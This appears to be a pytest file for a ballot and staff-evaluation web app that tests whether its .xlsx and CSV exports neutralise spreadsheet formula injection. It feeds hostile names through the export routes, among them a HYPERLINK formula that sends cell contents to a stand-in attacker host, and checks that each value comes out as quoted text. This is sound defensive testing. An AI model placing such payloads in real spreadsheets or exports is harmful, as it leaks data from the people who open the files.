"""Formula injection (issue 10, fault 5): every .xlsx/.csv export writes text as text.

A person, unit or post named like a formula is exported through the real routes and read back
with openpyxl: no cell is a formula, every hostile value is a text cell beginning with a single
quote (OWASP's CSV injection advice), numbers stay numbers. A second test fails when a new
export writes a workbook or a CSV file without evalapp.core.spreadsheets.
"""

from __future__ import annotations

import csv
import io
import re
from datetime import date
from pathlib import Path

from openpyxl import load_workbook

from evalapp.auth.models import Role
from evalapp.auth.permissions import SYSTEM
from evalapp.ballots import builder
from evalapp.ballots.models import RoundStatus
from evalapp.core.spreadsheets import csv_bytes, neutralised, new_workbook, workbook_bytes
from evalapp.org.services import PersonData, create_person
from evalapp.tally.rules import Scale
from tests.conftest import PASSWORD
from tests.org.test_import import upload

HOSTILE = ['=HYPERLINK("http://attacker.example/?leak="&A1,"x")', "=1+2", "+1", "-1",
           "@SUM(A1)", "\t=1", "\r=1"]
EVALAPP = Path(__file__).resolve().parents[1] / "evalapp"


def _cells(content: bytes):
    workbook = load_workbook(io.BytesIO(content))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row
            if cell.value is not None]


def _assert_no_formula(content: bytes, expected: list[str]) -> list:
    cells = _cells(content)
    formulas = [(c.coordinate, c.value) for c in cells if c.data_type == "f"]
    assert formulas == []
    texts = [c.value for c in cells if isinstance(c.value, str)]
    # No text cell begins like a formula; each hostile value is there, quoted.
    assert [t for t in texts if t.startswith(("=", "+", "-", "@", "\t", "\r"))] == []
    for value in expected:
        assert "'" + value in texts, value
    return cells


def test_the_helper_neutralises_text_and_keeps_numbers():
    workbook = new_workbook()
    sheet = workbook.active
    sheet.append([*HOSTILE, "Nguyễn Văn An", "a=b", 42, -1, 0.5])
    sheet["A2"] = "=1+2"  # written cell by cell: openpyxl would make it a formula
    cells = _assert_no_formula(workbook_bytes(workbook), [*HOSTILE, "=1+2"])
    by_value = {c.value: c for c in cells}
    assert by_value["Nguyễn Văn An"].data_type == "s" and by_value["a=b"].data_type == "s"
    assert by_value[42].data_type == "n" and by_value[-1].data_type == "n"
    assert all(c.data_type == "s" for c in cells if isinstance(c.value, str))
    # The same rules for CSV: text quoted and prefixed, numbers bare.
    text = csv_bytes([[*HOSTILE, "Nguyễn Văn An", 42, None]]).decode("utf-8-sig")
    row = next(csv.reader(io.StringIO(text)))
    assert row[:len(HOSTILE)] == ["'" + v for v in HOSTILE]
    assert row[len(HOSTILE):] == ["Nguyễn Văn An", "42", ""]
    assert neutralised(-1) == -1 and neutralised("Lê-Văn") == "Lê-Văn"


def test_people_export_and_template_write_names_as_text(client, admin, login_as, factory, db):
    unit = factory.unit("=1+2", code="-SNV")
    factory.post("@SUM(A1)")
    for i, name in enumerate(HOSTILE):
        factory.person(name.strip(), unit, staff_code=f"+{i}", post=None)
    login_as(admin)
    export = client.get("/org/people/export.xlsx")
    assert export.status_code == 200
    names = [value.strip() for value in HOSTILE]
    _assert_no_formula(export.data, [*names, "=1+2", "-SNV", "+0"])
    # The exported list imports again with the names as they were, quote taken off.
    preview = upload(client, export.data, "export.xlsx").get_data(as_text=True)
    summary = re.sub(r"<[^>]+>", " ", preview.split("import-summary")[1].split("</ul>")[0])
    assert re.findall(r"\d+", summary) == ["7", "0", "0", "7"]  # read, new, updated, unchanged

    template = client.get("/org/people/import/template.xlsx")
    assert template.status_code == 200
    _assert_no_formula(template.data, ["=1+2", "-SNV", "@SUM(A1)"])


def test_results_export_writes_names_as_text(app, factory, db):
    unit = factory.unit('=HYPERLINK("http://attacker.example/?leak="&A1,"x")')
    people = [create_person(SYSTEM, PersonData(full_name=name.strip(), unit=unit,
                                               staff_code=f"X{i}", birth_year=1980))
              for i, name in enumerate(HOSTILE)]
    voters = [create_person(SYSTEM, PersonData(full_name=f"Cử tri {i}", unit=unit,
                                               staff_code=f"V{i}", birth_year=1980))
              for i in range(5)]
    db.session.commit()
    round_ = builder.create(builder.RoundPlan(
        unit=unit, candidates=people, voters=voters, title="=1+2", body_name="+Ban",
        place="-Hội trường", meeting_date=date(2026, 12, 1), scale=Scale.THREE_LEVEL))
    levels = [str(round_.scale.levels[0])] * len(people)
    builder.advance(round_, RoundStatus.COUNTED, present=5,
                    ballots=[(v, levels) for v in voters])
    db.session.commit()
    factory.user("kiemphieu", roles=(Role.ADMIN,))
    client = app.test_client()
    client.post("/login", data={"username": "kiemphieu", "password": PASSWORD})
    response = client.get(f"/ballots/{round_.id}/results.xlsx?acknowledged=1")
    assert response.status_code == 200
    cells = _assert_no_formula(response.data, [*(v.strip() for v in HOSTILE), "=1+2",
                                               unit.name])
    assert any(c.value == 5 and c.data_type == "n" for c in cells)  # counts stay numbers


WRITERS = re.compile(
    r"\bWorkbook\s*\(|import\s+[^\n]*\bWorkbook\b|openpyxl\.Workbook|\bsave_workbook\b"
    r"|csv\.writer|csv\.DictWriter|\bxlsxwriter\b|\.to_excel\(|\.to_csv\(|\bWriteOnlyCell\b"
    r"|write_only\s*=")


def test_every_export_goes_through_the_helper():
    """A workbook or a CSV writer made anywhere but evalapp/core/spreadsheets.py fails here."""
    helper = EVALAPP / "core" / "spreadsheets.py"
    offenders = []
    for path in sorted(EVALAPP.rglob("*.py")):
        if path == helper:
            continue
        for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1):
            if WRITERS.search(line):
                offenders.append(f"{path.relative_to(EVALAPP.parent)}:{number}: {line.strip()}")
    assert offenders == []
    # The exports we have do use it (so the scan above is looking at the right words).
    for module in ("org/spreadsheets.py", "ballots/spreadsheets.py"):
        assert "new_workbook()" in (EVALAPP / module).read_text(encoding="utf-8")
    assert WRITERS.search(helper.read_text(encoding="utf-8"))
